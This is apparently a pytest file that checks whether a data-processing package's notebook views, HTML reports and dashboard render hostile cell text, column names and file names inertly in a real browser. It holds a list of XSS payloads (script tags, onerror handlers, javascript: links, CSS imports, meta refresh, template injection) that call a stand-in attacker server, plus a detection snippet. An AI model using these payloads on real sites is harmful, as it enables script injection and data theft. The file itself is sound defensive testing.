"""S15: hostile text in cells, columns, file names, plans, answers and errors, opened in a real browser.

Every face of the package is looked at at once: what notebooks show, the report of a run that is done and of one that
was refused, and the dashboard's page. A server on loopback stands for the attacker's: nothing asks it anything.
"""

from __future__ import annotations

import importlib.util
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest

import apwa_dask as apwa
from apwa_dask.errors import ApwaError
from apwa_dask.testing import Fault, Rule, Script, ScriptedServer

pytestmark = pytest.mark.slow

_SPEC = importlib.util.spec_from_file_location(
    "tests_observe_browser", Path(__file__).parents[1] / "observe" / "conftest.py"
)
assert _SPEC is not None
assert _SPEC.loader is not None
_OBSERVE = importlib.util.module_from_spec(_SPEC)
sys.modules[_SPEC.name] = _OBSERVE
_SPEC.loader.exec_module(_OBSERVE)

LIVE = """[...document.querySelectorAll('*')].filter(element =>
  ['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'FORM', 'BASE', 'AUDIO', 'VIDEO'].includes(element.tagName)
  || element.matches('meta[http-equiv="refresh" i]')
  || element.getAttributeNames().some(name => name.startsWith('on') || name == 'srcdoc')
  || /^\\s*(javascript|data):/i.test(element.getAttribute('href') || '')
).map(element => element.outerHTML.slice(0, 200))"""
CLICK_ALL = "document.querySelectorAll('a, summary, button').forEach(element => element.click()); 1"
POLICY = "document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content || ''"
FETCHED = "performance.getEntriesByType('resource').map(entry => entry.name)"


def hostile(leak: str) -> list[str]:
    """Ways out of text, out of an attribute, out of a style and out of a script; each would tell the attacker."""
    call = f"window.pwned=1;fetch('{leak}/script')"
    return [
        f"<script>{call}</script>",
        f'<img src=x onerror="{call}">',
        f"'\"><img src={leak}/img>",
        f'<a href="javascript:{call}">look</a>',
        f"</style><style>@import '{leak}/style'; * {{ background: url({leak}/background) }}</style>",
        f'</title></textarea></script><svg onload="{call}">',
        f'<meta http-equiv="refresh" content="0;url={leak}/refresh">',
        f'<link rel="stylesheet" href="{leak}/link"><iframe src="{leak}/frame"></iframe>',
        f"{{{{ 7 * 7 }}}}{{% for x in ().__class__.__bases__ %}} <body onpageshow={call}>",
        f"$$\\href{{javascript:{call}}}{{x}}$$ ![x]({leak}/markdown)",
    ]


@pytest.fixture(scope="module")
def attacker() -> Iterator[Any]:
    """A server that nobody should ever ask."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_args: Any) -> None:
            """Tests are quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield SimpleNamespace(url=f"http://127.0.0.1:{server.server_port}", asked=asked)
    server.shutdown()
    server.server_close()
    thread.join(10)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    if _OBSERVE.CHROMIUM is None:
        pytest.skip("no Chromium on this machine (apt install chromium)")
    made = _OBSERVE.Browser(tmp_path_factory.mktemp("chromium"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def done(attacker: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A run over hostile files whose answers are hostile too, and one that was refused over a hostile name."""
    folder = tmp_path_factory.mktemp("hostile")
    evil = hostile(attacker.url)
    everything = "".join(evil)
    frame = pd.DataFrame({"text": [f"{k} {text}" for k, text in enumerate(evil)], everything: evil})
    file = folder / "<img src=x onerror=window.pwned=1>&'.parquet"
    frame.to_parquet(file)
    rules = (Rule(match="", answer={"label": everything, "grade": 1}),)
    faults = (Fault("refusal", on="^3 |text.*3 <", times=9), Fault("status", on="4 </style>", status=400))
    with pytest.MonkeyPatch.context() as patch, ScriptedServer(Script(rules=rules, faults=faults)) as server:
        patch.setenv("OPENAI_API_KEY", "sk-only-for-loopback")
        table = apwa.read(str(file)).map(
            f"Rate it. {everything}",
            inputs=["text", everything],
            output={"label": str, "grade": int},
            id="rate",
        )
        options = {"store": str(folder / "store"), "scheduler": "threads", "progress": False}
        model = apwa.Model("gpt-test", base_url=server.base_url, price=apwa.Price(1.0, 2.0))
        preview = table.plan().preview(2, model=model, store=str(folder / "preview"))
        run = table.run(model=model, name=everything, budget=2.0, **options).wait()
        with ScriptedServer(Script(models=("another",))) as narrow:
            model = apwa.Model(everything, base_url=narrow.base_url)
            refused = table.run(model=model, namespace="refused", **options)
            with pytest.raises(ApwaError):
                refused.wait()
        yield SimpleNamespace(
            table=table, run=run, refused=refused, preview=preview, evil=evil, folder=folder
        )


def faces(done: Any) -> dict[str, Any]:
    """All that a notebook would draw."""
    planned = done.table.plan()
    return {
        "table": done.table,
        "profile": done.table.profile(),
        "planned": planned,
        "plan": planned.plan,
        "explanation": planned.explain(model="gpt-test"),
        "estimate": planned.estimate(model="gpt-test"),
        "preview": done.preview,
        "run": done.run,
        "failures": done.run.failures,
        "failures by kind": done.run.failures.summary(),
        "row": done.run.row(0),
        "failed row": done.run.row(3),
        "lineage": done.run.lineage(0),
        "refused": done.refused,
        "result": done.run.result(),
    }


def test_s15_no_face_in_a_notebook_runs_or_fetches_anything(browser, attacker, done):
    drawn = {name: face._repr_html_() for name, face in faces(done).items() if hasattr(face, "_repr_html_")}
    assert {"table", "profile", "planned", "plan", "explanation", "run", "failures", "row", "lineage"} <= set(
        drawn
    )
    assert len(done.run.failures) > 0
    document = "".join(f"<section><h2>{name}</h2>{html}</section>" for name, html in drawn.items())
    file = done.folder / "notebook.html"
    file.write_text(f"<!doctype html><meta charset='utf-8'><body>{document}</body>", encoding="utf-8")

    page = browser.open(file.as_uri())
    page.until("document.readyState == 'complete'")
    page.value(CLICK_ALL)

    assert page.value("document.querySelectorAll('body > section').length") == len(drawn), (
        "sections are closed"
    )
    assert page.value(LIVE) == []
    assert page.value(FETCHED) == []
    assert page.value("typeof window.pwned") == "undefined"
    assert "<script>" in page.value("document.body.textContent"), "shown, as text"
    assert attacker.asked == []


@pytest.mark.parametrize("which", ["run", "refused"])
def test_s15_the_report_runs_and_fetches_nothing_under_its_policy(browser, attacker, done, which):
    path = done.folder / f"{which}.html"
    getattr(done, which).report(str(path))

    page = browser.open(path.as_uri())
    page.until("document.readyState == 'complete'")
    page.value(CLICK_ALL)

    policy = page.value(POLICY)
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert page.value(LIVE) == []
    assert page.value(FETCHED) == []
    assert page.value("typeof window.pwned") == "undefined"
    assert "<script>" in page.value("document.body.textContent"), "shown, as text"
    assert attacker.asked == []


def test_s15_the_dashboard_runs_nothing_of_the_data_and_asks_nobody_else(browser, attacker, done):
    with done.run.dashboard() as dashboard:
        page = browser.open(dashboard.url)
        page.until("window.Bokeh && Bokeh.documents.length > 0 && Bokeh.documents[0].roots().length > 0")
        page.until("Bokeh.documents[0].get_model_by_name('summary').text.includes('done')")
        page.value(CLICK_ALL)
        origin = dashboard.url.removesuffix("/apwa")
        assert [url for url in page.value(FETCHED) if not url.startswith(f"{origin}/")] == []
        assert "default-src" in page.value(POLICY)
        assert page.value("typeof window.pwned") == "undefined"
        assert page.value("document.querySelectorAll('img[onerror], iframe, svg[onload]').length") == 0
        said = page.value("document.documentElement.outerHTML")
    assert not any(text in said for text in done.evil)
    assert attacker.asked == []


def test_s15_the_browser_would_have_run_it(browser, attacker, tmp_path):
    """That the page is opened and looked at in a way that would notice."""
    file = tmp_path / "live.html"
    file.write_text(f"<!doctype html><body>{hostile(attacker.url)[0]}<img src={attacker.url}/img></body>")
    page = browser.open(file.as_uri())
    assert page.until("window.pwned") == 1
    assert len(page.value(LIVE)) == 2
    page.until("document.images[0].complete")
    assert "/img" in attacker.asked
    attacker.asked.clear()
